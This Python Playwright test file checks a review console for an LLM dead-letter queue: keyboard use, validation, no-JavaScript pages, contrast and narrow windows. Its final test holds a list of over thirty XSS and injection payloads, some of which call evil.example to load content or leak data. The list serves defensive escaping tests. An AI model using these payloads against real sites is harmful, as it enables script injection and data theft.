"""A reviewer at the console: by keyboard, in a narrow window, in the dark, and under attack."""

import time
from datetime import UTC, datetime

import orjson
import pytest
from playwright.sync_api import Dialog, Page, Request

from consumers.texts import plain
from schemas.base import Tier
from schemas.codec import dead_letter_headers
from schemas.dead_letter import DeadLetter, Pointer
from schemas.reasons import Reason
from schemas.verdict import CheckResult, Verdict
from tests.browser.conftest import SHOTS, Served
from tests.builders import an_attempt
from tests.kafka.flow import read_topics

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]


def _shot(page: Page, name: str) -> None:
    SHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=SHOTS / f"{name}.png", full_page=True)


def _open(page: Page, served: Served, place: str, kind: str = "cases") -> None:
    """Open a case or a request as soon as the console has it."""
    give_up = time.monotonic() + 30
    while time.monotonic() < give_up:
        reply = page.goto(f"{served.url}/{kind}/{place}")
        if reply is not None and reply.status == 200:
            return
    msg = f"{place} is none of the {kind}"
    raise TimeoutError(msg)


def _edit_wrongly(page: Page) -> None:
    """In the form, and as JSON: what is wrong is said in words, and what was typed stays."""
    page.keyboard.press("e")
    page.focus("[name='at/next_action']")
    page.keyboard.type("none")
    page.focus("[name='at/answer']")
    page.keyboard.press("Control+A")
    page.keyboard.press("Delete")
    page.keyboard.press("Control+Enter")
    page.wait_for_selector(".wrong")
    problems = page.locator(".wrong").all_inner_texts()
    assert any("A text of at least 1 character was expected." in words for words in problems)
    assert page.evaluate("document.activeElement.name") == "at/answer"
    _shot(page, "case-form")
    page.keyboard.press("Escape")
    page.keyboard.press("w")
    page.wait_for_selector("#output")
    page.keyboard.press("e")
    page.keyboard.press("Control+A")
    page.keyboard.type('{"answer": 5}')
    page.keyboard.press("Control+Enter")
    page.wait_for_selector(".error")
    assert 'is not of type "string"' in page.inner_text(".error")
    assert page.input_value("#output") == '{"answer": 5}'
    _shot(page, "case-invalid")


def test_a_case_is_worked_on_without_a_mouse(page: Page, served: Served) -> None:
    """Found, claimed, edited wrongly, mended, undone, approved: its answer is a result."""
    first, second = served.disputes("keys-1", "keys-2")
    _open(page, served, first)
    _open(page, served, second)
    page.goto(f"{served.url}/cases?text=keys-")
    _shot(page, "queue")
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    page.wait_for_url("**/cases/*llm.dead-letters*")
    page.keyboard.press("c")
    page.wait_for_selector("#decision")
    place = page.url.split("/cases/")[1].split("?")[0]
    assert page.inner_text("#lease") in ("yours for 5:00", "yours for 4:59", "yours for 4:58")
    _shot(page, "case")

    _edit_wrongly(page)
    page.keyboard.press("Escape")
    page.keyboard.press("1")
    assert page.is_checked("[data-key=a]")
    page.keyboard.press("Control+Enter")
    page.wait_for_url("**decided=*")
    assert "approve" in page.inner_text(".undo")
    assert page.inner_text(".undo [data-left]").removesuffix(" s").isdecimal()
    _shot(page, "undo")
    with page.expect_navigation():
        page.keyboard.press("u")
    assert place in page.url

    page.keyboard.press("c")
    page.wait_for_selector("#decision")
    page.keyboard.press("a")
    page.keyboard.press("Control+Enter")
    page.wait_for_url("**decided=*")
    results = read_topics(served.bootstrap, [served.topics.results], 1)
    assert [seen.json["router"]["review"] for seen in results] == ["approve"]
    assert f"{results[0].json['router']['resolves']}" == place


def test_keys_do_nothing_where_somebody_types(page: Page, served: Served) -> None:
    [place] = served.disputes("typing-1")
    _open(page, served, place)
    page.keyboard.press("c")
    page.wait_for_selector("#decision")
    page.focus("#reason")
    page.keyboard.type("a rejected case 1 2 ? u")
    assert page.input_value("#reason") == "a rejected case 1 2 ? u"
    assert not page.is_checked("[data-key=a]")
    assert not page.is_visible("#legend")

    page.keyboard.press("Escape")
    page.keyboard.press("?")
    assert page.is_visible("#legend")
    _shot(page, "legend")


def test_what_was_typed_outlives_a_claim_and_a_mistake(page: Page, served: Served) -> None:
    [place] = served.disputes("kept-1")
    _open(page, served, place)
    page.keyboard.press("c")
    page.wait_for_selector("#decision")
    page.keyboard.press("d")
    page.keyboard.press("Control+Enter")
    page.wait_for_selector(".error")
    page.keyboard.type("a man cut dead: no letter for us")
    assert page.input_value("#reason") == "a man cut dead: no letter for us"

    page.set_viewport_size({"width": 390, "height": 844})
    page.click("[name=action][value=edit]")
    assert page.evaluate(
        "document.querySelector('#edit').getBoundingClientRect().bottom"
        " < document.querySelector('.desk .bar').getBoundingClientRect().top + 1"
    )
    page.fill("[name='at/answer']", "We refund it today.")
    token = page.get_attribute("[name=csrf] >> nth=0", "value")
    page.request.post(
        f"{served.url}/cases/{place}/release",
        form={"csrf": token or ""},
        headers={"origin": served.url},
    )
    page.click("#decide")
    page.wait_for_selector("#claim")
    page.click("#claim")
    page.wait_for_selector("#decision")
    assert page.input_value("[name='at/answer']") == "We refund it today."
    assert page.is_checked("[name=action][value=edit]")

    page.goto(f"{served.url}/flow")
    page.evaluate("getSelection().selectAllChildren(document.querySelector('#flow h2'))")
    with page.expect_response("**/flow"):
        pass
    page.wait_for_function("!document.querySelector('.htmx-request')")
    assert page.evaluate("getSelection().toString()")


def test_it_can_be_read_without_javascript(page: Page, served: Served) -> None:
    [place] = served.disputes("plain-1")
    _open(page, served, place)
    browser = page.context.browser
    assert browser is not None
    context = browser.new_context(java_script_enabled=False)
    plain = context.new_page()
    _open(plain, served, "plain-1", "requests")
    plain.goto(f"{served.url}/requests?text=order plain-1")
    plain.click("td a")
    assert "You charged me twice" in plain.inner_text("main")
    assert "with a person" in plain.inner_text("main")
    _shot(plain, "request")
    plain.click("section a[href*='llm.dead-letters']")
    assert "wants a person to approve" in plain.inner_text("main")
    plain.goto(f"{served.url}/cases?text=plain-1")
    plain.click("td a")
    assert "You charged me twice" in plain.inner_text("main")
    plain.click("#claim")
    plain.check("[value=reject]")
    plain.click("#decide")
    assert "decided=" in plain.url
    context.close()


#: Contrast by WCAG 2.2, 1.4.3: every text against what is behind it, as it was drawn.
_TOO_FAINT = """
() => {
  const channels = (color) => (color.match(/[\\d.]+/g) || []).map(Number);
  const luminance = (rgb) => {
    const [r, g, b] = rgb.slice(0, 3).map((value) => {
      const one = value / 255;
      return one <= 0.04045 ? one / 12.92 : ((one + 0.055) / 1.055) ** 2.4;
    });
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const behind = (element) => {
    for (let one = element; one; one = one.parentElement) {
      const color = channels(getComputedStyle(one).backgroundColor);
      if (color.length === 3 || color[3] > 0.99) return color;
    }
    return [255, 255, 255];
  };
  const faint = [];
  for (const element of document.querySelectorAll("body *")) {
    const says = [...element.childNodes].some((n) => n.nodeType === 3 && n.data.trim());
    if (!says || !element.checkVisibility()) continue;
    const style = getComputedStyle(element);
    const [a, b] = [luminance(channels(style.color)), luminance(behind(element))];
    const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    const size = parseFloat(style.fontSize);
    const isLarge = size >= 24 || (size >= 18.66 && parseInt(style.fontWeight) >= 700);
    const words = element.innerText.slice(0, 40);
    if (ratio < (isLarge ? 3 : 4.5)) faint.push([element.tagName, words, ratio]);
  }
  return faint;
}
"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_text_stands_out_and_a_narrow_window_shows_all(
    page: Page, served: Served, scheme: str
) -> None:
    [place] = served.disputes(f"narrow-{scheme}")
    page.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
    _open(page, served, place)
    page.keyboard.press("c")
    page.wait_for_selector("#decision")
    for width in (1280, 360):
        page.set_viewport_size({"width": width, "height": 800})
        for path in (
            *("/cases", "/groups", "/dashboard", "/budgets", "/policy", "/flow"),
            *(f"/cases/{place}", "/cases/nowhere"),
        ):
            page.goto(served.url + path)
            for details in page.query_selector_all("details"):
                details.evaluate("(one) => { one.open = true; }")
            assert page.evaluate("document.documentElement.scrollWidth") <= width, path
            assert page.evaluate(_TOO_FAINT) == [], path
            if path.endswith(place):
                bar = page.locator("#decide").bounding_box()
                assert bar is not None
                assert 0 <= bar["y"] < bar["y"] + bar["height"] <= 800, path
            _shot(page, f"{scheme}-{width}{path.split('llm')[0].replace('/', '-').rstrip('-')}")


_PAYLOADS = (
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<body onload=pwned()>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=javascript:parent.pwned()></iframe>",
    "<a href=javascript:pwned() autofocus onfocus=pwned()>x</a>",
    "<input autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>x</details>",
    "<video><source onerror=pwned()></video>",
    "<math><mtext><script>pwned()</script></mtext></math>",
    '"><script>pwned()</script>',
    "'><img src=x onerror=pwned()>",
    '" onmouseover=pwned() x="',
    "</textarea><script>pwned()</script>",
    "</pre><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</script><script>pwned()</script>",
    "<!--><script>pwned()</script>-->",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/><button autofocus>x</button></form>",
    "![x](http://evil.example/leak?q=secret)",
    "[click](javascript:pwned())",
    "<object data=http://evil.example/x></object>",
    "<div hx-get=/cases hx-trigger=load hx-on::load=pwned()>x</div>",
    "{{ self.__init__.__globals__ }}{% include 'base.html' %}${pwned()}",
    "<template><script>pwned()</script></template><x onclick=pwned()>",
    "\u202e<script>pwned()</script>",
)


def _hostile(number: int, payload: str) -> tuple[bytes, bytes, list[tuple[str, bytes]]]:
    """A dead letter with the payload everywhere that others can write."""
    verdict = Verdict(
        outcome="rejected",
        checks=[
            CheckResult(
                check="schema", passed=False, reason=Reason.SCHEMA_FAILED, detail=f"/x: {payload}"
            )
        ],
        output={"answer": payload, payload: 1},
    )
    attempt = an_attempt(
        Tier.LOW, model=payload, outcome="rejected", reply=payload, verdict=verdict, detail=payload
    )
    letter = DeadLetter(
        request_id=f"xss-{number}",
        task="support_answer",
        reason=Reason.NO_TIER_LEFT,
        detail=payload,
        stage=payload,
        source=Pointer(topic="llm.intake", partition=0, offset=number, timestamp_ms=1),
        failed_at=datetime.now(UTC),  # noqa: TID251
        policy_version=payload,
        path=("low",),
        attempts=(attempt, attempt),
    )
    body = {
        "id": f"xss-{number}",
        "task": "support_answer",
        "input": payload,
        "user": payload,
        "context": {"retrieved": payload},
    }
    headers = [*dead_letter_headers(letter, ()), ("x-evil", payload.encode())]
    return f"xss-{number}".encode(), orjson.dumps(body), headers


@pytest.fixture
def watched(page: Page, served: Served) -> tuple[Page, list[str]]:
    """A window, and what must not happen in it."""
    wrong: list[str] = []

    def asked(request: Request) -> None:
        if not request.url.startswith((served.url, "data:")):
            wrong.append(f"asked {request.url}")

    def opened(dialog: Dialog) -> None:
        wrong.append(f"dialog {dialog.message}")
        dialog.dismiss()

    page.expose_function("pwned", lambda: wrong.append("a script ran"))
    page.on("request", asked)
    page.on("dialog", opened)
    return page, wrong


def test_what_others_wrote_is_text_and_nothing_else(
    watched: tuple[Page, list[str]], served: Served
) -> None:
    page, wrong = watched
    assert len(_PAYLOADS) >= 30
    letters = [_hostile(number, payload) for number, payload in enumerate(_PAYLOADS)]
    served.publish(served.topics.dead_letters, *letters)
    _open(page, served, served.place_of(f"xss-{len(_PAYLOADS) - 1}"))
    for number, payload in enumerate(_PAYLOADS):
        page.goto(f"{served.url}/cases?text=xss-{number}")
        page.goto(f"{served.url}/cases/{served.place_of(f'xss-{number}')}")
        for details in page.query_selector_all("details"):
            details.evaluate("(one) => { one.open = true; }")
        assert plain(payload.strip())[:20] in page.content().replace("&lt;", "<").replace(
            "&gt;", ">"
        ).replace("&#34;", '"').replace("&#39;", "'").replace("&quot;", '"').replace("&amp;", "&")
    page.goto(f"{served.url}/groups")
    page.goto(f"{served.url}/cases?text=%3Cscript%3Epwned()%3C/script%3E&task=%3Cimg%20src=x%3E")
    page.wait_for_load_state("networkidle")

    assert wrong == []
